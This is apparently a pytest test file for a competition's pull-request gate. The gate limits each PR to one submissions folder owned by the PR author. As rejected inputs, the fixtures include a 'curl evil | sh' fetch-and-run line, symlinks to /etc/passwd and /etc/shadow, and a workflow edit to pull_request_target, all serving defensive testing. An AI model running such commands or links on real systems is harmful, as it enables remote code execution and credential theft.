"""The PR rule: exactly one submissions/<name>/ folder added or changed, nothing else, with clear messages."""

from __future__ import annotations

import argparse
import json
import os
from pathlib import Path

import pytest

from competition.github import changes, cli
from tests.github.gitrepo import commit, git, init_repo, write

BASE_FILES = {
    "README.md": "project\n",
    ".github/workflows/validate.yml": "name: Validate\n",
    "competition/run.py": "# harness\n",
    "submissions/baseline/submission.yaml": "name: baseline\n",
    "submissions/zoe/submission.yaml": "name: zoe\ngithub_handle: Zoe-Z\n",
    "submissions/zoe/model.py": "# zoe\n",
}


@pytest.fixture()
def repo(tmp_path: Path) -> Path:
    repo = init_repo(tmp_path / "repo", BASE_FILES)
    git(repo, "switch", "-q", "-c", "pr")
    return repo


def check(repo: Path) -> changes.ChangeCheck:
    return changes.check_pr("main", "pr", repo)


def messages(outcome: changes.ChangeCheck) -> str:
    return "\n".join(str(p) for p in outcome.problems)


def test_adding_one_submission_folder_passes(repo: Path) -> None:
    write(repo, {"submissions/ada/submission.yaml": "name: ada\n", "submissions/ada/model.py": "# ada\n"})
    commit(repo, "add ada")
    outcome = check(repo)
    assert outcome.ok, messages(outcome)
    assert outcome.submission == "ada"
    assert sorted(c.path for c in outcome.changes) == ["submissions/ada/model.py", "submissions/ada/submission.yaml"]


def test_changing_and_deleting_inside_an_existing_folder_passes(repo: Path) -> None:
    write(repo, {"submissions/zoe/model.py": "# faster\n"})
    (repo / "submissions/zoe/submission.yaml").unlink()
    write(repo, {"submissions/zoe/submission.yml": "renamed\n"})
    commit(repo, "update zoe")
    outcome = check(repo)
    assert outcome.ok and outcome.submission == "zoe", messages(outcome)
    assert {c.status for c in outcome.changes} == {"A", "M", "D"}


def test_a_pr_that_also_edits_a_workflow_is_rejected(repo: Path) -> None:
    write(repo, {"submissions/ada/model.py": "# ada\n", ".github/workflows/validate.yml": "name: pwned\n"})
    commit(repo, "sneaky")
    outcome = check(repo)
    assert not outcome.ok
    assert ".github/workflows/validate.yml: is outside submissions/<name>/" in messages(outcome)
    assert "revert your change to .github/workflows/validate.yml" in messages(outcome)


def test_a_pr_with_two_submission_folders_is_rejected(repo: Path) -> None:
    write(repo, {"submissions/ada/model.py": "# ada\n", "submissions/bob/model.py": "# bob\n"})
    commit(repo, "two")
    outcome = check(repo)
    assert outcome.submission is None
    assert "touches 2 submission folders: ada, bob" in messages(outcome)
    assert "one pull request per submission folder" in messages(outcome)


@pytest.mark.parametrize("files, expected", [
    ({"submissions/README.md": "x"}, "submissions/README.md: is outside submissions/<name>/"),
    ({"submissions/baseline/model.py": "x"}, "'baseline' is reserved"),
    ({"submissions/Bad Name/model.py": "x"}, "folder name 'Bad Name' is not allowed"),
])
def test_other_violations_are_named(repo: Path, files: dict[str, str], expected: str) -> None:
    write(repo, files)
    commit(repo, "bad")
    assert expected in messages(check(repo))


def test_symlinks_are_rejected(repo: Path) -> None:
    (repo / "submissions/ada").mkdir()
    os.symlink("/etc/passwd", repo / "submissions/ada/data.npz")
    commit(repo, "link")
    assert "has git mode 120000 (symlink or submodule)" in messages(check(repo))


def test_an_empty_pr_is_rejected(repo: Path) -> None:
    assert "changes no files" in messages(check(repo))


def test_changes_on_main_after_the_branch_point_are_not_blamed_on_the_pr(repo: Path) -> None:
    write(repo, {"submissions/ada/model.py": "# ada\n"})
    commit(repo, "ada")
    git(repo, "switch", "-q", "main")
    write(repo, {"competition/run.py": "# maintainers moved on\n"})
    commit(repo, "harness change on main")
    outcome = check(repo)
    assert outcome.ok and outcome.submission == "ada", messages(outcome)


def run_cli(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="tito")
    cli.register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(argv)
    return args.func(args)


def test_cli_exit_codes_messages_and_github_output(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    write(repo, {"submissions/ada/model.py": "# ada\n"})
    commit(repo, "ada")
    output = tmp_path / "github_output"
    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--repo-dir", str(repo),
                    "--github-output", str(output)]) == 0
    assert output.read_text() == "kind=submission\nsubmission=ada\n"
    write(repo, {"README.md": "edited\n"})
    commit(repo, "readme")
    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--repo-dir", str(repo)]) == 1
    assert "README.md: is outside submissions/<name>/" in capsys.readouterr().err
    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "nope", "--repo-dir", str(repo)]) == 2


def test_submission_listings(repo: Path, capsys: pytest.CaptureFixture) -> None:
    write(repo, {"submissions/ada/submission.yaml": "name: ada\n"})
    before = git(repo, "rev-parse", "main")
    after = commit(repo, "ada")
    assert run_cli(["pr", "submissions", "--repo-dir", str(repo)]) == 0
    assert json.loads(capsys.readouterr().out) == ["ada", "zoe"]
    assert run_cli(["pr", "submissions", "--base", before, "--head", after, "--repo-dir", str(repo)]) == 0
    assert json.loads(capsys.readouterr().out) == ["ada"]
    git(repo, "rm", "-q", "-r", "submissions/zoe")
    removed = commit(repo, "remove zoe")
    assert changes.changed_submissions(after, removed, repo) == []


def gate(repo: Path, author: str, maintainer: bool = False) -> changes.Gate:
    return changes.gate("main", "pr", author, maintainer, repo, ("dependabot[bot]",))


def test_a_new_folder_must_carry_the_authors_own_handle(repo: Path) -> None:
    write(repo, {"submissions/ada/submission.yaml": "github_handle: ada\n", "submissions/ada/model.py": "#\n"})
    commit(repo, "add ada")
    assert gate(repo, "Ada").ok, "GitHub logins are case-insensitive"
    decided = gate(repo, "mallory")
    assert not decided.ok and decided.kind == "submission"
    assert "github_handle is 'ada' but the pull request was opened by @mallory" in messages(decided.check)
    assert "set github_handle: mallory" in messages(decided.check)


def test_a_pr_may_not_change_another_entrants_folder(repo: Path) -> None:
    write(repo, {"submissions/zoe/model.py": "# zoe, sabotaged\n"})
    commit(repo, "edit zoe")
    assert gate(repo, "zoe-z").ok
    decided = gate(repo, "mallory")
    assert "submissions/zoe/ belongs to @Zoe-Z; @mallory may not change it" in messages(decided.check)


def test_a_pr_may_not_hand_its_folder_to_someone_else_or_drop_the_handle(repo: Path) -> None:
    write(repo, {"submissions/zoe/submission.yaml": "github_handle: mallory\n"})
    commit(repo, "take over")
    assert "belongs to @Zoe-Z" in messages(gate(repo, "mallory").check)
    assert "github_handle is 'mallory' but the pull request was opened by @Zoe-Z" in messages(gate(repo, "Zoe-Z").check)
    write(repo, {"submissions/zoe/submission.yaml": "[unparsable: yaml"})
    commit(repo, "broken")
    assert "is missing or has no github_handle" in messages(gate(repo, "Zoe-Z").check)


@pytest.mark.parametrize("files", [{".github/workflows/validate.yml": "on: pull_request_target\n"},
                                   {"scripts/commit_results.sh": "curl evil | sh\n"}])
def test_a_submission_pr_that_also_edits_workflows_or_scripts_is_rejected(repo: Path, files: dict) -> None:
    write(repo, {"submissions/ada/submission.yaml": "github_handle: ada\n", **files})
    commit(repo, "sneaky")
    decided = gate(repo, "ada")
    assert not decided.ok and f"{next(iter(files))}: is outside submissions/<name>/" in messages(decided.check)


def test_bot_code_prs_and_maintainer_prs_are_left_to_ci_every_other_pr_gets_the_rule(repo: Path) -> None:
    write(repo, {"competition/run.py": "# dependabot bump\n"})
    commit(repo, "bump")
    assert gate(repo, "dependabot[bot]").kind == "code" and gate(repo, "dependabot[bot]").ok
    assert not gate(repo, "student").ok, "a non-maintainer may not change code"
    write(repo, {"submissions/zoe/model.py": "# removed for cheating\n"})
    commit(repo, "maintainer edit")
    assert gate(repo, "maintainer", maintainer=True).kind == "maintainer"
    assert not gate(repo, "dependabot[bot]").ok, "a bot may not touch submissions/"
    assert not gate(repo, "outsider").ok


def test_cli_gate_writes_kind_and_refuses_foreign_folders(repo: Path, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture) -> None:
    write(repo, {"README.md": "docs\n"})
    commit(repo, "docs")
    output = tmp_path / "out"
    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--author", "x", "--repo-dir",
                    str(repo)]) == 1, "a student's code PR gets the rule"
    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--author", "dependabot[bot]",
                    "--repo-dir", str(repo), "--github-output", str(output)]) == 0
    assert output.read_text() == "kind=code\nsubmission=\n"
    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--author", "x", "--maintainer", "true",
                    "--repo-dir", str(repo)]) == 0
    git(repo, "reset", "-q", "--hard", "main")
    write(repo, {"submissions/zoe/model.py": "# mine now\n"})
    commit(repo, "zoe")
    assert run_cli(["pr", "check-changes", "--base", "main", "--head", "pr", "--author", "mallory",
                    "--repo-dir", str(repo)]) == 1
    assert "belongs to @Zoe-Z" in capsys.readouterr().err


def test_overlay_takes_only_the_folder_as_regular_files(repo: Path, tmp_path: Path) -> None:
    from competition.github import overlay

    write(repo, {"submissions/ada/submission.yaml": "github_handle: ada\n", "submissions/ada/w/x.npz": "w",
                 "competition/run.py": "# the PR's harness: never taken\n"})
    head = commit(repo, "ada")
    git(repo, "switch", "-q", "main")
    write(repo, {"submissions/ada/stale.py": "# left over\n"})
    written = overlay.overlay(head, "ada", repo)
    assert sorted(written) == ["submissions/ada/submission.yaml", "submissions/ada/w/x.npz"]
    assert not (repo / "submissions/ada/stale.py").exists()
    assert (repo / "competition/run.py").read_text() == "# harness\n"
    assert git(repo, "rev-parse", "--abbrev-ref", "HEAD") == "main"
    git(repo, "clean", "-q", "-fd")
    git(repo, "switch", "-q", "pr")
    (repo / "submissions/ada/evil").symlink_to("/etc/shadow")
    linked = commit(repo, "link")
    with pytest.raises(overlay.OverlayError, match="git mode 120000"):
        overlay.overlay(linked, "ada", repo)
    with pytest.raises(overlay.OverlayError, match="does not exist"):
        overlay.overlay(head, "nobody", repo)
